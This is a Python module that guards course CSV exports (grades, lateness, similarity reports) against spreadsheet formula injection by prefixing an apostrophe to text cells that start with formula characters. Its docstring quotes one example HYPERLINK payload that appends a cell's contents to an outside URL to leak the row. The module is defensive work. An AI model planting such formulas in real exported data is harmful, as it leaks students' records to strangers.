"""CSV files an instructor opens in a spreadsheet: no text of a student's becomes a formula.

Excel, LibreOffice and Google Sheets read a cell that begins with ``=``, ``+``, ``-`` or ``@`` (or
a tab or carriage return) as a formula, also in a CSV file ("CSV injection"): a roster name such
as ``=HYPERLINK("http://…?"&A1, "open")`` would send the row to a stranger when clicked. Every CSV
the course writes (grades, grades by test, lateness, similarity, the learning platforms' exports)
passes its values through ``inert``: such text gets a leading apostrophe, which spreadsheets show
as text and do not display; numbers (``-0.5``) stay numbers.
"""

from __future__ import annotations

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def inert(value):
    """``value``, or, for text a spreadsheet would read as a formula, the same text as text."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not is_number(value):
        return "'" + value
    return value


def inert_rows(rows: list[list]) -> list[list]:
    return [[inert(value) for value in row] for row in rows]


def inert_table(table: pd.DataFrame) -> pd.DataFrame:
    """The table with ``inert`` text in its columns of text (numbers are left as they are)."""
    text = [column for column in table.columns if not pd.api.types.is_numeric_dtype(table[column])
            and not pd.api.types.is_bool_dtype(table[column])]
    return table.assign(**{str(column): table[column].map(inert) for column in text}) if text else table
